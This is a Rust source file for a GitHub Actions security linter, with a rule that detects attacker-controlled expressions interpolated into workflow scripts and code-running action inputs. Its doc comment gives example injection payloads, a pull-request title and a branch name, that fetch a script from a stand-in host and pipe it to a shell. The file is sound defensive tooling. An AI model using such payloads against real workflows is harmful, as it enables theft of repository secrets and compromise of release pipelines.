use garrison_report::{Confidence, Finding, RuleMeta, Severity, declare_rule};
use garrison_workflows::contexts::Control;
use garrison_workflows::{Parent, Step, WorkflowFile};
use garrison_yaml::Node;

use crate::facts::taint::{self, Source, TaintedOutput};
use crate::{Audit, Workspace, loc};

declare_rule! {
    /// ## What it checks
    /// `${{ … }}` expressions inside `run:` scripts (of workflows and composite actions) and
    /// inside the inputs of actions that run their value as code — `actions/github-script`'s
    /// `script`, `azure/cli` and `azure/powershell`'s `inlineScript`, `mikefarah/yq`'s `cmd`,
    /// `tibdex/backport`'s templates and the rest of CodeQL's `code-injection` sink models,
    /// plus `Amadevus/pwsh-script`, `jannekem/run-python-script-action`,
    /// `cardinalby/js-eval-action` and `addnab/docker-run-action` — whose value an attacker can
    /// choose: pull-request titles, bodies and branch names, issue and comment text, commit
    /// messages, the head branch of a triggering `workflow_run`, and so on. It also follows one
    /// level of `env:` (`${{ env.TITLE }}` where `TITLE: ${{ github.event.issue.title }}`), and
    /// reports at lower severity and confidence the values that are attacker-controlled only if
    /// the caller makes them so: `inputs.*` of composite actions, reusable and dispatched
    /// workflows, and `steps.*.outputs.*` / `needs.*.outputs.*` in workflows that outsiders
    /// can trigger. An output that an earlier step of the job wrote to `$GITHUB_OUTPUT` from
    /// attacker-controlled data (`echo "title=$TITLE" >> "$GITHUB_OUTPUT"` with
    /// `TITLE: ${{ github.event.pull_request.title }}`, or a `title<<EOF` multi-line value) is
    /// rated like the original value, with the write as a related location.
    ///
    /// ## Why it matters
    /// GitHub substitutes expressions into the script text *before* the shell runs it, so the
    /// value becomes code. A pull request titled `"; curl evil.sh | sh; #` or a branch named
    /// `a$(curl${IFS}-sSfL${IFS}evil.sh|sh)` runs arbitrary commands in the runner. Under
    /// `pull_request_target`, `workflow_run`, `issue_comment` or `issues` the job holds the
    /// repository's secrets and a write token: this is how the Ultralytics release pipeline was
    /// compromised in December 2024 (a branch name injected into a `run:` step published a
    /// cryptominer to PyPI). Branch names cannot contain spaces, but `${IFS}`, `$( )` and `;`
    /// are enough.
    ///
    /// ## Example
    /// ```yaml
    /// on: pull_request_target
    /// jobs:
    ///   greet:
    ///     runs-on: ubuntu-latest
    ///     steps:
    ///       - run: echo "Thanks for ${{ github.event.pull_request.title }}"
    /// ```
    ///
    /// ## Remediation
    /// Never interpolate untrusted values into code. Pass them through an environment variable
    /// and quote the variable in the script:
    ///
    /// ```yaml
    ///       - run: echo "Thanks for $TITLE"
    ///         env:
    ///           TITLE: ${{ github.event.pull_request.title }}
    /// ```
    ///
    /// In `actions/github-script`, read `context.payload.pull_request.title` or
    /// `process.env.TITLE` instead of interpolating.
    pub TemplateInjection {
        id: "workflow/template-injection",
        summary: "attacker-controlled expression interpolated into a script",
        severity: High,
        help: "pass the value through an environment variable (`env: VALUE: ${{ … }}`) and use \"$VALUE\" in the script",
        references: [
            "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections",
            "https://securitylab.github.com/resources/github-actions-untrusted-input/",
            "https://blog.yossarian.net/2024/12/06/zizmor-ultralytics-injection",
            "https://scientific-python.org/specs/spec-0008/",
        ],
    }
}

/// Severity and confidence for a tainted value of `source`.
pub(crate) fn rating(source: Source, events: &[String]) -> (Severity, Confidence) {
    match source {
        Source::OutsiderPrivileged => (Severity::Critical, Confidence::High),
        Source::Outsider if events.iter().all(|e| e == "workflow_call") => {
            (Severity::High, Confidence::Low)
        }
        Source::Outsider => (Severity::High, Confidence::Medium),
        Source::Committer => (Severity::Medium, Confidence::Medium),
        Source::Caller => (Severity::Medium, Confidence::Low),
        Source::Computed => (Severity::Low, Confidence::Low),
    }
}

/// Inputs of actions that run their value as code, lowercased action names: CodeQL's
/// `code-injection` sink models (github/codeql `actions/ql/lib/ext/manual/<owner>_<repo>.model.yml`,
/// kind `code-injection`), and four actions CodeQL does not model whose documentation says
/// they evaluate the input (`Amadevus/pwsh-script`, `jannekem/run-python-script-action`,
/// `cardinalby/js-eval-action`, `addnab/docker-run-action`'s `run` and docker `options`).
/// Each entry: action (compared case-insensitively), inputs, what runs the value.
const ACTION_SINKS: &[(&str, &[&str], &str)] = &[
    ("actions/github-script", &["script"], "JavaScript"),
    ("8398a7/action-slack", &["custom_payload"], "JavaScript"),
    ("appleboy/ssh-action", &["script"], "a remote shell"),
    ("azure/cli", &["inlineScript"], "a shell"),
    ("azure/powershell", &["inlineScript"], "PowerShell"),
    ("devorbitus/yq-action-output", &["cmd"], "a shell"),
    ("gautamkrishnar/blog-post-workflow", &["item_exec"], "JavaScript"),
    (
        "imjohnbo/issue-bot",
        &[
            "body",
            "linked-comments-previous-issue-text",
            "linked-comments-new-issue-text",
        ],
        "a template engine",
    ),
    ("lucasbento/auto-close-issues", &["issue-close-message"], "a template engine"),
    ("mikefarah/yq", &["cmd"], "a shell"),
    (
        "roots/issue-closer-action",
        &["issue-close-message", "pr-close-message"],
        "a template engine",
    ),
    ("sergeysova/jq-action", &["cmd"], "a shell"),
    ("skitionek/notify-microsoft-teams", &["overwrite"], "JavaScript"),
    (
        "tibdex/backport",
        &[
            "body_template",
            "head_template",
            "labels_template",
            "title_template",
        ],
        "a lodash template (JavaScript)",
    ),
    ("Amadevus/pwsh-script", &["script"], "PowerShell"),
    ("jannekem/run-python-script-action", &["script"], "Python"),
    ("cardinalby/js-eval-action", &["expression"], "JavaScript"),
    ("addnab/docker-run-action", &["run", "options"], "a container's shell or `docker run`"),
];

/// A place of a step whose text runs as code.
pub(crate) struct Sink<'a> {
    pub node: &'a Node,
    /// `run`, `github-script`, or the action whose input it is.
    pub sink: &'static str,
    /// The route below the step (`run`, `with.script`).
    pub suffix: String,
    /// What runs it, for messages: "a run: script", "the `cmd` input of mikefarah/yq (a shell)".
    pub what: String,
}

/// The script sinks of a step: `run:` and the code-running inputs of [`ACTION_SINKS`]
/// (input names compared case-insensitively, as the runner does).
pub(crate) fn sinks(step: &Step) -> Vec<Sink<'_>> {
    let mut v = Vec::new();
    if let Some(r) = &step.run {
        v.push(Sink {
            node: r,
            sink: "run",
            suffix: "run".to_string(),
            what: "a run: script".to_string(),
        });
    }
    let Some((name, inputs, runs)) = ACTION_SINKS
        .iter()
        .find(|(a, ..)| step.uses_action(&a.to_ascii_lowercase()))
    else {
        return v;
    };
    let Some(with) = step.with.as_ref().and_then(Node::as_map) else {
        return v;
    };
    for (k, node) in with {
        let Some(key) = k.as_str() else { continue };
        if !inputs.iter().any(|i| i.eq_ignore_ascii_case(key)) {
            continue;
        }
        let github_script = *name == "actions/github-script";
        v.push(Sink {
            node,
            sink: if github_script { "github-script" } else { name },
            suffix: format!("with.{key}"),
            what: if github_script {
                "an actions/github-script script".to_string()
            } else {
                format!("the `{key}` input of {name}, which runs it as {runs}")
            },
        });
    }
    v
}

/// A suggested environment variable name for `ctx` (`github.event.pull_request.title` -> `TITLE`).
pub(crate) fn env_name(ctx: &str) -> String {
    let last = ctx
        .rsplit('.')
        .find(|s| !s.is_empty() && *s != "*" && !s.starts_with('['))
        .unwrap_or("value");
    let n: String = last
        .chars()
        .map(|c| {
            if c.is_ascii_alphanumeric() {
                c.to_ascii_uppercase()
            } else {
                '_'
            }
        })
        .collect();
    if n.is_empty() { "VALUE".to_string() } else { n }
}

fn control_str(c: Control) -> &'static str {
    match c {
        Control::Arbitrary => "arbitrary",
        Control::Structured => "structured",
    }
}

fn source_phrase(source: Source, events: &[String]) -> String {
    match source {
        Source::OutsiderPrivileged | Source::Outsider if events.is_empty() => {
            "is attacker-controlled when the caller runs on a pull request, issue or comment"
                .to_string()
        }
        Source::OutsiderPrivileged | Source::Outsider => {
            format!("is attacker-controlled under {}", events.join(", "))
        }
        Source::Committer => "is chosen by commit authors".to_string(),
        Source::Caller => "is chosen by the caller".to_string(),
        Source::Computed => {
            "comes from a step or job output that may carry attacker-controlled data".to_string()
        }
    }
}

/// True for `steps.<id>.outputs.*` of a GitHub-owned setup action (`actions/setup-python`'s
/// `python-path`, `actions/cache`'s `cache-hit`): values the action computes itself.
fn trusted_output(siblings: &[Step], context: &str) -> bool {
    let Some(id) = context
        .strip_prefix("steps.")
        .and_then(|r| r.split('.').next())
    else {
        return false;
    };
    siblings
        .iter()
        .find(|s| s.id.as_deref().is_some_and(|i| i.eq_ignore_ascii_case(id)))
        .and_then(Step::action)
        .is_some_and(|a| {
            (a.starts_with("actions/setup-") || a.starts_with("actions/cache"))
                && a != "actions/github-script"
        })
}

struct Hit {
    context: String,
    via: Option<String>,
    source: Source,
    control: Control,
    events: Vec<String>,
    span: garrison_report::Span,
    count: usize,
    /// The other places the same context is interpolated into this sink.
    also: Vec<garrison_report::Span>,
    /// Where an earlier step wrote the attacker-controlled value to `$GITHUB_OUTPUT`.
    written: Option<garrison_report::Location>,
}

/// Audits one step's sinks. `env_scopes` are the step, job and workflow `env:` nodes.
/// `outputs` are the attacker-controlled `$GITHUB_OUTPUT` entries of earlier steps.
fn check_step(
    file: &WorkflowFile,
    siblings: &[Step],
    step: &Step,
    triggers: Option<&[&str]>,
    env_scopes: &[Option<&Node>],
    outputs: &[TaintedOutput],
    out: &mut Vec<Finding>,
) {
    for sink in sinks(step) {
        let mut hits: Vec<Hit> = Vec::new();
        for e in file.expressions(sink.node) {
            let Ok(parsed) = &e.parsed else { continue };
            let mut found = taint::tainted_contexts(parsed, triggers)
                .into_iter()
                .map(|(n, s, c, ev)| (n, None, s, c, ev, None))
                .collect::<Vec<_>>();
            // `steps.<id>.outputs.<name>` written from attacker-controlled data.
            for f in &mut found {
                if f.2 != Source::Computed {
                    continue;
                }
                let Some((id, name)) =
                    f.0.strip_prefix("steps.")
                        .and_then(|r| r.split_once(".outputs."))
                else {
                    continue;
                };
                if let Some(t) = outputs
                    .iter()
                    .find(|t| t.step.eq_ignore_ascii_case(id) && t.name.eq_ignore_ascii_case(name))
                {
                    f.1 = Some(t.origin.clone());
                    f.2 = t.source;
                    f.3 = t.control;
                    f.4 = t.events.clone();
                    f.5 = Some(t.at.clone());
                }
            }
            for ctx in garrison_expr::flowing_contexts(parsed) {
                if ctx.root() != "env" {
                    continue;
                }
                let norm = ctx.normalized();
                let Some(var) = norm.strip_prefix("env.") else {
                    continue;
                };
                if let Some(t) = taint::tainted_env(file, env_scopes, var, triggers) {
                    for (n, s, c, ev) in t.contexts {
                        found.push((norm.clone(), Some(n), s, c, ev, None));
                    }
                }
            }
            for (context, via, source, control, events, written) in found {
                if source == Source::Computed && trusted_output(siblings, &context) {
                    continue;
                }
                if let Some(h) = hits.iter_mut().find(|h| h.context == context) {
                    h.count += 1;
                    if e.span != h.span && !h.also.contains(&e.span) {
                        h.also.push(e.span);
                    }
                    if source < h.source {
                        h.source = source;
                        h.via = via;
                        h.events = events;
                        h.written = written;
                    }
                    continue;
                }
                hits.push(Hit {
                    context,
                    via,
                    source,
                    control,
                    events,
                    span: e.span,
                    count: 1,
                    also: Vec::new(),
                    written,
                });
            }
        }
        for h in hits {
            report(file, step, &sink, h, out);
        }
    }
}

fn report(file: &WorkflowFile, step: &Step, sink: &Sink<'_>, h: Hit, out: &mut Vec<Finding>) {
    let (severity, confidence) = rating(h.source, &h.events);
    let origin = h.via.as_deref().unwrap_or(&h.context);
    let what = match &h.via {
        Some(v) if h.written.is_some() => format!("`{}` (written from `{v}`)", h.context),
        Some(v) => format!("`{}` (set from `{v}`)", h.context),
        None => format!("`{}`", h.context),
    };
    let message = format!(
        "{what} is interpolated into {} in step `{}`; the value {}",
        sink.what,
        step.label(),
        source_phrase(h.source, &h.events)
    );
    let var = env_name(&h.context);
    let help = match sink.sink {
        "run" => format!(
            "pass the value through an environment variable: `env: {var}: ${{{{ {origin} }}}}` on the step, then use \"${var}\" (quoted) in the script"
        ),
        "github-script" => format!(
            "pass the value through an environment variable: `env: {var}: ${{{{ {origin} }}}}`, then read `process.env.{var}` in the script"
        ),
        action => format!(
            "pass the value through an environment variable: `env: {var}: ${{{{ {origin} }}}}` on the step, and read it from the environment inside {action}'s input instead of interpolating it"
        ),
    };
    let mut b = Finding::builder(&TemplateInjection::META)
        .message(message)
        .severity(severity)
        .confidence(confidence)
        .location(
            loc(&file.path, h.span, step.route.then(&sink.suffix))
                .with_note(format!("{} becomes part of the script", h.context)),
        )
        .evidence("context", h.context.clone())
        .evidence("sink", sink.sink)
        .evidence("control", control_str(h.control))
        .help(help)
        .key(h.context.clone());
    if !h.events.is_empty() {
        b = b.evidence("triggers", h.events.clone());
    }
    match (&h.via, &h.written) {
        (Some(v), Some(at)) => {
            b = b.evidence("via_output", v.clone()).location(at.clone());
        }
        (Some(v), None) => b = b.evidence("via_env", v.clone()),
        _ => {}
    }
    if h.count > 1 {
        b = b.evidence("occurrences", h.count);
    }
    for span in &h.also {
        b = b.location(
            loc(&file.path, *span, step.route.then(&sink.suffix))
                .with_note(format!("{} is also interpolated here", h.context)),
        );
    }
    out.push(b.build());
}

impl Audit for TemplateInjection {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn steps(&self, _ws: &Workspace, parent: Parent<'_>, out: &mut Vec<Finding>) {
        let triggers = parent.triggers();
        let triggers = triggers.as_deref();
        let mut outputs: Vec<TaintedOutput> = Vec::new();
        for step in parent.steps() {
            let scopes = parent.env_scopes(step);
            check_step(
                parent.file(),
                parent.steps(),
                step,
                triggers,
                &scopes,
                &outputs,
                out,
            );
            outputs.extend(taint::tainted_outputs(
                parent.file(),
                step,
                &scopes,
                triggers,
            ));
        }
    }
}
